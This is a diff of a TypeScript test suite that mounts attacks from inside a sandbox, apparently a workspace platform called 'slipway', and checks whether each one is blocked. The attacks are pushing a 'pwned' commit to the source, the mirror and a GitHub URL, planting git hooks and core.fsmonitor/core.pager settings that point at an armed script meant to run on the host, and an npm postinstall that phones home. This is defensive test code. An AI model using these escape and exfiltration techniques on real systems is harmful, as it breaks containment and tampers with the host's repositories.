@@ -10,8 +10,8 @@ import { runGit } from "../../src/workspace/git.ts";
 import { changedFiles, commitAll } from "../../src/workspace/worktree.ts";
 import { worktreeGitOptions } from "../../src/workspace/worktree-admin.ts";
 import { git } from "../helpers/git-fixture.ts";
-import type { AttackRun } from "./attack-world.ts";
-import { type Attempt, gist } from "./attempt.ts";
+import { type AttackRun, clearMarkers } from "./attack-world.ts";
+import { type Attempt, blocked, breached, gist, inconclusive, notRun, type Verdict } from "./attempt.ts";
 
 function refsOf(repository: string): string {
   return git(repository, "for-each-ref", "--format=%(refname) %(objectname)");
@@ -19,24 +19,31 @@ function refsOf(repository: string): string {
 
 const gitPush: Attempt = {
   name: "git push from inside",
+  proves: "host-root",
   async run({ sh, world }) {
     const before = [refsOf(world.source), refsOf(world.mirrorPath)];
     const identity = "-c user.name=attacker -c user.email=attacker@example.invalid";
     const script = [
       `git ${identity} commit --allow-empty -m pwned 2>&1; git push origin HEAD:refs/heads/pwned 2>&1`,
       `git push "${world.source}" HEAD:refs/heads/pwned 2>&1`,
-      `cd /tmp && git init -q pushed && cd pushed && git ${identity} commit -q --allow-empty -m pwned`,
+      `cd "$(mktemp -d /tmp/slipway-attack-push-XXXXXX)" && echo "scratch $PWD" && git init -q pushed && cd pushed && git ${identity} commit -q --allow-empty -m pwned && echo committed-inside`,
       `git push "${world.source}" HEAD:refs/heads/pwned 2>&1; git push "${world.mirrorPath}" HEAD:refs/heads/pwned 2>&1`,
       "git push https://github.com/slipway-attack/target.git HEAD:refs/heads/pwned 2>&1",
     ].join("\n");
     const result = await sh(script, { env: { GIT_TERMINAL_PROMPT: "0" } });
     const after = [refsOf(world.source), refsOf(world.mirrorPath)];
-    const unchanged = after[0] === before[0] && after[1] === before[1];
+    // A weakened sandbox's scratch lands in the host's /tmp: remove it (inside, it is the sandbox's own).
+    const scratch = /^scratch (\/tmp\/slipway-attack-push-\w+)$/m.exec(result.stdout)?.[1];
+    if (scratch) rmSync(scratch, { recursive: true, force: true });
+    if (after[0] !== before[0] || after[1] !== before[1])
+      return breached("a ref changed in the source or the mirror");
+    const didNotRun = notRun(result);
+    if (didNotRun) return didNotRun;
+    // The control: git itself works inside (the attacker's own commit in /tmp was made).
+    if (!/^committed-inside$/m.test(result.stdout))
+      return inconclusive(`git did not work inside: ${gist(result.output)}`);
     const fatal = result.output.split("\n").find((line) => /^(fatal|error):/.test(line)) ?? result.output;
-    return {
-      blocked: unchanged,
-      evidence: unchanged ? gist(fatal) : "a ref changed in the source or the mirror",
-    };
+    return blocked(gist(fatal));
   },
 };
 
@@ -86,32 +93,32 @@ async function platformGitOperations({ world, worktree, sandbox }: AttackRun): P
   return errors;
 }
 
-/** Run the platform's git work, then check no marker appeared; `control` then shows the trap was live. */
-async function platformStaysClean(
-  attack: AttackRun,
-  setup: string,
-  control: string[],
-): Promise<{ blocked: boolean; evidence: string }> {
-  const armed = await attack.sh(setup);
-  if (armed.exitCode !== 0)
-    return { blocked: false, evidence: `could not arm the trap: ${gist(armed.output)}` };
-  const errors = await platformGitOperations(attack);
-  const sprung = readdirSync(attack.world.markers);
-  for (const name of sprung) rmSync(`${attack.world.markers}/${name}`, { force: true });
-  // The control: plain git in the worktree, as a naive platform would run it, springs the trap.
-  spawnSync("git", ["-c", "safe.directory=*", ...control], {
-    cwd: attack.worktree,
-    stdio: "ignore",
-    timeout: 30_000,
-  });
-  const live = readdirSync(attack.world.markers).length > 0;
-  for (const name of readdirSync(attack.world.markers))
-    rmSync(`${attack.world.markers}/${name}`, { force: true });
-  const trap = live ? "trap live under plain git" : "trap did not fire under plain git either";
-  if (sprung.length > 0) return { blocked: false, evidence: `ran on the host: ${sprung.join(", ")}` };
-  if (errors.length > 0)
-    return { blocked: false, evidence: `platform git failed: ${gist(errors.join("; "))}` };
-  return { blocked: true, evidence: `no hook or program ran in the platform's git; ${trap}` };
+/**
+ * Run the platform's git work, then check no marker appeared; the control, plain git in the
+ * worktree as a naive platform would run it, must spring the trap (inconclusive otherwise).
+ */
+async function platformStaysClean(attack: AttackRun, setup: string, control: string[]): Promise<Verdict> {
+  try {
+    const armed = await attack.sh(setup);
+    const didNotRun = notRun(armed);
+    if (didNotRun) return didNotRun;
+    if (armed.exitCode !== 0) return inconclusive(`could not arm the trap: ${gist(armed.output)}`);
+    const errors = await platformGitOperations(attack);
+    const sprung = clearMarkers(attack.world);
+    spawnSync("git", ["-c", "safe.directory=*", ...control], {
+      cwd: attack.worktree,
+      stdio: "ignore",
+      timeout: 30_000,
+    });
+    const live = readdirSync(attack.world.markers).length > 0;
+    if (sprung.length > 0) return breached(`ran on the host: ${sprung.join(", ")}`);
+    if (errors.length > 0) return breached(`platform git failed: ${gist(errors.join("; "))}`);
+    if (!live) return inconclusive("the trap did not fire under plain git either: it proves nothing");
+    return blocked("no hook or program ran in the platform's git; the trap fires under plain git");
+  } finally {
+    // Markers of the control (or of a step that threw) must not leak into the next attempt.
+    clearMarkers(attack.world);
+  }
 }
 
 /** A shell snippet that writes `armed.sh`, which leaves `<markers>/<prefix>-<its name>-<pid>` behind. */
@@ -121,6 +128,7 @@ function armedProgram(attack: AttackRun, prefix: string): string {
 
 const gitHooks: Attempt = {
   name: "install a git hook that would run on the host",
+  proves: "platform",
   async run(attack) {
     const hooks = [
       "pre-commit",
@@ -156,6 +164,7 @@ const gitHooks: Attempt = {
 
 const gitExecutableConfig: Attempt = {
   name: "core.fsmonitor / core.pager in the repository's config",
+  proves: "platform",
   async run(attack) {
     const program = `${attack.worktree}/armed.sh`;
     const settings = {
@@ -183,6 +192,7 @@ const gitExecutableConfig: Attempt = {
 
 const nestedRepository: Attempt = {
   name: "a nested repository with core.fsmonitor set",
+  proves: "platform",
   async run(attack) {
     const program = `${attack.worktree}/armed.sh`;
     const setup = [
@@ -197,21 +207,28 @@ const nestedRepository: Attempt = {
 
 const postinstallPhoneHome: Attempt = {
   name: "npm postinstall that phones home",
+  proves: "network",
   async run({ sh, world }) {
     const before = world.loopback.connections + world.wildcard.connections;
-    const result = await sh("npm install --offline --no-audit --no-fund 2>&1", { timeoutMs: 120_000 });
-    const reached = world.loopback.connections + world.wildcard.connections - before;
-    const marker = readdirSync(world.markers).includes("postinstall");
-    rmSync(`${world.markers}/postinstall`, { force: true });
-    const ran = /postinstall ran/.test(result.output);
-    const failures = [
-      ...new Set([...result.output.matchAll(/^failed \S+ (\S+)$/gm)].map((match) => match[1])),
-    ];
-    const phoned = /^phoned /m.test(result.output);
-    return {
-      blocked: reached === 0 && !marker && !phoned,
-      evidence: `postinstall ran inside: ${ran}; ${reached} host connections; ${failures.join(", ") || gist(result.output)}`,
-    };
+    try {
+      const result = await sh("npm install --offline --no-audit --no-fund 2>&1", { timeoutMs: 120_000 });
+      const reached = world.loopback.connections + world.wildcard.connections - before;
+      const marker = readdirSync(world.markers).includes("postinstall");
+      const failures = [
+        ...new Set([...result.output.matchAll(/^failed \S+ (\S+)$/gm)].map((match) => match[1])),
+      ];
+      if (reached > 0 || marker || /^phoned /m.test(result.output))
+        return breached(`${reached} host connections; marker on the host: ${marker}`);
+      const didNotRun = notRun(result);
+      if (didNotRun) return didNotRun;
+      if (!/postinstall ran/.test(result.output))
+        return inconclusive(`the postinstall never ran: ${gist(result.output)}`);
+      return blocked(
+        `postinstall ran inside; 0 host connections; ${failures.join(", ") || gist(result.output)}`,
+      );
+    } finally {
+      clearMarkers(world);
+    }
   },
 };
 
